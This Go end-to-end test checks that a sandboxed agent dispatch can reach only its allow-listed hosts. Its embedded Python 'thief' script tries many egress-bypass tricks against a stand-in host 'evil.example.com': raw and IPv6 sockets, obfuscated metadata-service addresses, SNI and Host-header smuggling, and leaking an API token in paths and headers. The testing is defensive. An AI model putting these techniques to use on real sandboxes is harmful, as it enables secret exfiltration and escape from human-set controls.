package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/bailiwick-dev/bailiwick/api"
)

// exfiltrate tries every way out of a jail, as Python finds it in a Debian system, and
// says how each ended.
const exfiltrate = `cat >/tmp/out.py <<'END'
import base64, http.client, os, socket, ssl, urllib.request
proxy = os.environ["HTTPS_PROXY"].removeprefix("http://")
token = os.environ["API_TOKEN"]
def attempt(name, do):
    try: print("TRY", name, "=>", do())
    except Exception as e: print("TRY", name, "=>", type(e).__name__, str(e)[:100])
def connect(family, kind, proto, address):
    s = socket.socket(family, kind, proto); s.settimeout(3); s.connect(address); s.sendall(b"x"); return "REACHED"
for name, family, kind, proto, address in [
    ("tcp", socket.AF_INET, socket.SOCK_STREAM, 0, ("EVIL", 443)), ("udp", socket.AF_INET, socket.SOCK_DGRAM, 0, ("EVIL", 53)),
    ("tcp6", socket.AF_INET6, socket.SOCK_STREAM, 0, ("2606:4700::1111", 443)), ("mapped", socket.AF_INET6, socket.SOCK_STREAM, 0, ("::ffff:EVIL", 443)),
    ("raw", socket.AF_INET, socket.SOCK_RAW, 1, ("EVIL", 0)), ("icmp", socket.AF_INET, socket.SOCK_DGRAM, 1, ("EVIL", 0)),
    ("sctp", socket.AF_INET, socket.SOCK_STREAM, 132, ("EVIL", 443)), ("vsock", 40, socket.SOCK_STREAM, 0, (2, 443)),
]: attempt(name, lambda: connect(family, kind, proto, address))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) and "REACHED")
attempt("dns", lambda: socket.getaddrinfo("evil.example.com", 443) and "REACHED")
def ask(method, target, headers={}, body=None):
    c = http.client.HTTPConnection(proxy, timeout=10); c.request(method, target, body, headers); r = c.getresponse(); return "%d %s" % (r.status, r.read(200).decode(errors="replace").replace("\n", " "))
for t in ["evil.example.com:443", "good.example.com:80", "169.254.169.254:80", "2852039166:80", "0xa9fea9fe:80", "0251.0376.0251.0376:80", "[::ffff:169.254.169.254]:80", "[2002:a9fe:a9fe::]:80", "[64:ff9b::a9fe:a9fe]:80", "[fec0::1]:80", "EVIL:443", "127.0.0.1:22"]:
    attempt("connect " + t, lambda: ask("CONNECT", t))
attempt("http", lambda: ask("GET", "http://evil.example.com/"))
attempt("inside", lambda: ask("GET", "http://inside.example.com/"))
def tunnel(host, sni, request):
    s = socket.create_connection(proxy.rsplit(":", 1), 10)
    s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (host, host)).encode()); s.recv(4096)
    t = ssl.create_default_context().wrap_socket(s, server_hostname=sni); t.sendall(request.encode()); return t.recv(65536).decode().replace("\r\n", " ")
attempt("sni", lambda: tunnel("good.example.com", "evil.example.com", ""))
get = "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n"
attempt("host", lambda: tunnel("api.example.com", "api.example.com", get % ("/", "evil.example.com", "")))
attempt("path", lambda: tunnel("api.example.com", "api.example.com", get % ("/" + token, "api.example.com", "")))
attempt("other secret", lambda: tunnel("api.example.com", "api.example.com", get % ("/", "api.example.com", "X-Leak: " + base64.b64encode(b"u:" + token.encode()).decode() + "\r\n")))
attempt("foreign", lambda: tunnel("api.example.com", "api.example.com", get % ("/", "api.example.com", "X-Api-Key: bwk-" + "0123456789abcdef" * 2 + "\r\n")))
attempt("GOOD", lambda: urllib.request.urlopen("https://good.example.com/", timeout=10).read().decode())
attempt("API", lambda: urllib.request.urlopen(urllib.request.Request("https://api.example.com/", headers={"X-Api-Key": token}), timeout=10).read().decode())
END
/usr/bin/python3 /tmp/out.py`

// The agent of a dispatch leaves its jail by the listed hosts alone. Each refused
// request is in its network record and in the log.
//
// proves R-S3, R-D8
func TestNothingLeavesADispatchButByItsList(t *testing.T) {
	t.Parallel()
	const value = "value-of-the-api-4711"
	asBoth(t, func(t *testing.T, uid int) {
		n := newInternet(t)
		var mu sync.Mutex
		got := map[string][]string{}
		site := func(name string) http.Handler {
			return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				mu.Lock()
				got[name] = append(got[name], r.Header.Get("X-Api-Key"))
				mu.Unlock()
				_, _ = io.WriteString(w, "this is "+name+", you sent "+r.Header.Get("X-Api-Key"))
			})
		}
		for _, name := range []string{"good", "evil", "api"} {
			n.host(name+".example.com", site(name))
		}
		hosts := n.read("hosts")
		n.file("hosts", hosts+"10.0.0.5 inside.example.com\n")
		w := newWorld(t, uid)
		w.init()
		w.manifest(subagent{name: "thief", script: strings.ReplaceAll(exfiltrate, "EVIL", n.address("evil.example.com"))})
		w.replace("project/bailiwick.yaml", "envs:\n", "secrets:\n  - {name: api, ref: \""+w.secretRef("api", "API_VALUE")+"\"}\nenvs:\n"+
			"  - name: net\n    egress: [\"good.example.com:443\", \"inside.example.com:80\"]\n"+
			"    secrets: {API_TOKEN: {secret: api, brokered: {hosts: [\"api.example.com:443\"], header: X-Api-Key}}}\n")
		w.replace("project/bailiwick.yaml", "envs: [colours]", "envs: [colours, net]")
		w.must("catalog", "apply", "-f", w.path("project/bailiwick.yaml"))
		w.upKnowing(map[string][2]string{"api": {"API_VALUE", value}}, n)
		d := w.dispatch("thief", "--env", "net")
		log := w.must("dispatch", "logs", string(d.ID))
		if d.State != api.EventFinished || strings.Contains(log, "REACHED") || strings.Contains(log, value) || strings.Contains(log, "this is evil") {
			t.Fatalf("%+v\n%s", d, log)
		}
		for _, want := range []string{"TRY GOOD => this is good", "TRY API => this is api, you sent [redacted]", "Retrying will not help"} {
			if !strings.Contains(log, want) {
				t.Errorf("the log has no %q:\n%s", want, log)
			}
		}
		mu.Lock()
		defer mu.Unlock()
		if fmt.Sprintf("%q", []any{got["good"], got["api"], got["evil"]}) != fmt.Sprintf(`[[""] [%q] []]`, value) {
			t.Errorf("the hosts got %q", got)
		}
		w.wantRefusals(d.ID, 19)
	})
}

// wantRefusals checks that a dispatch has n refused requests, and that its log has the
// same.
func (w *world) wantRefusals(id api.DispatchID, n int) {
	w.t.Helper()
	lines := map[int64]api.NetworkLine{}
	for line := range strings.Lines(w.must("dispatch", "network", string(id), "--refused", "-o", "jsonl")) {
		var l api.NetworkLine
		must(w.t, json.Unmarshal([]byte(line), &l))
		lines[l.Number] = l
	}
	if len(lines) != n {
		w.t.Errorf("%d refused requests, want %d: %+v", len(lines), n, lines)
	}
	entries := strings.Count(w.must("audit", "list", "--dispatch", string(id), "--kind", "egress.refused", "-o", "jsonl"), "\n")
	if entries != n {
		w.t.Errorf("%d entries, want %d", entries, n)
	}
}

func (n *internet) read(name string) string {
	n.t.Helper()
	b, err := os.ReadFile(n.path(name))
	must(n.t, err)
	return string(b)
}

// address returns the address of a host.
func (n *internet) address(name string) string {
	n.t.Helper()
	for line := range strings.Lines(n.read("hosts")) {
		if f := strings.Fields(line); f[1] == name {
			return f[0]
		}
	}
	n.t.Fatalf("no host %s", name)
	return ""
}
